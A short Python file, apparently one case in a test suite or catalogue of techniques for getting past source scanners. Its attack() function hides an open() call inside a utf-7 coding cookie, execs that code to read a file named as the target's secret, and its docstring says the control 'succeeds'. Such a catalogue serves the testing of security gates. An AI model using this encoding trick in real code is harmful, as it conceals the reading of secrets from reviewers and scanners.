"""Hide the payload from every reader of the source in an encoding named by a cookie.

origin: utf-7 and rot13 source cookies, used to slip past source scanners
why: what a gate reads is not what the interpreter runs
control: succeeds
"""


def attack(target):
    source = b"# coding: utf-7\nfound = +AG8AcABlAG4-(path).read()\n"
    namespace = {"path": target["secret"]}

    def run(path):
        exec(source, namespace)
        return namespace["found"]

    return read_secret(target, run, "open")
